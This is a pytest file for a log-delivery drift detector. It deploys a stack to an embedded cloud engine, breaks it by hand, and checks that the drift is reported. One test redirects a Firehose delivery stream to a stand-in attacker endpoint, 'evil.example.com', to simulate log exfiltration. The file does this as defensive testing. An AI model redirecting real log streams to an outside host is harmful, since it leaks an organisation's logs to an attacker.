"""The whole way: the real template of a file, deployed to the embedded engine, and broken there."""

import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from drifting import FILE, change_by_hand, findings, kinds

from flowlog_config.discovery.commands import discover


@pytest.fixture
def deployed(engine, deploy):
    """A folder with a file whose stack is deployed, in an environment that reaches only the engine."""
    Path("flowlogs.yaml").write_text(FILE)
    assert CliRunner().invoke(discover, []).exit_code == 0
    deploy()
    return engine


def test_finds_nothing_after_a_deployment_and_everything_that_is_broken_then(deployed):
    """What the template made is what drift expects, down to the pattern and the retention."""
    assert kinds() == set()
    group = change_by_hand(deployed)["LogGroupName"]
    deployed.client("logs").delete_log_group(logGroupName=group)
    assert kinds() == {"missing", "delivery-failed", "log-group-gone"}


def test_what_to_do_about_a_second_filter_tells_the_stack_s_own(deployed):
    """The first of the two commands lists the one that has to stay, and with the other gone nothing differs."""
    logs = deployed.client("logs")
    groups = [one["logGroupName"] for one in logs.describe_log_groups()["logGroups"]]
    (ours,) = [
        one for name in groups for one in logs.describe_subscription_filters(logGroupName=name)["subscriptionFilters"]
    ]
    same = {key: ours[key] for key in ("logGroupName", "filterPattern", "destinationArn", "roleArn")}
    logs.put_subscription_filter(filterName="by-hand", **same)
    (finding,) = findings()
    assert finding["kind"] == "filter-changed"
    assert finding["details"]["filters"] == sorted(["by-hand", ours["filterName"]])

    stack = re.search(r"--stack-name (\S+)", finding["use"])[1]
    made = deployed.client("cloudformation").describe_stack_resources(StackName=stack)["StackResources"]
    (own,) = [one["PhysicalResourceId"] for one in made if one["ResourceType"] == "AWS::Logs::SubscriptionFilter"]
    assert own == ours["filterName"]
    logs.delete_subscription_filter(logGroupName=ours["logGroupName"], filterName="by-hand")
    assert kinds() == set()


def test_finds_a_stream_to_somebody_else_one_that_lost_its_tag_and_one_that_is_gone(deployed):
    """As the streams of the template are named and tagged; what it says to do brings the tag back."""
    firehose = deployed.client("firehose")
    names = firehose.list_delivery_streams(DeliveryStreamType="DirectPut")["DeliveryStreamNames"]
    tagged = [
        name
        for name in names
        for tag in firehose.list_tags_for_delivery_stream(DeliveryStreamName=name)["Tags"]
        if tag["Key"] == "LogDeliveryEnabled"
    ]
    (other,) = set(names) - set(tagged)
    found = firehose.describe_delivery_stream(DeliveryStreamName=other)["DeliveryStreamDescription"]
    endpoint = {"EndpointConfiguration": {"Url": "https://evil.example.com/"}}
    firehose.update_destination(
        DeliveryStreamName=other,
        CurrentDeliveryStreamVersionId=found["VersionId"],
        DestinationId=found["Destinations"][0]["DestinationId"],
        HttpEndpointDestinationUpdate=endpoint,
    )
    assert kinds() == {"stream-changed"}
    firehose.untag_delivery_stream(DeliveryStreamName=tagged[0], TagKeys=["LogDeliveryEnabled"])
    firehose.delete_delivery_stream(DeliveryStreamName=other)
    assert kinds() == {"delivery-failed", "stream-gone", "stream-tag-missing"}

    firehose.tag_delivery_stream(DeliveryStreamName=tagged[0], Tags=[{"Key": "LogDeliveryEnabled", "Value": "true"}])
    assert kinds() == {"stream-gone"}
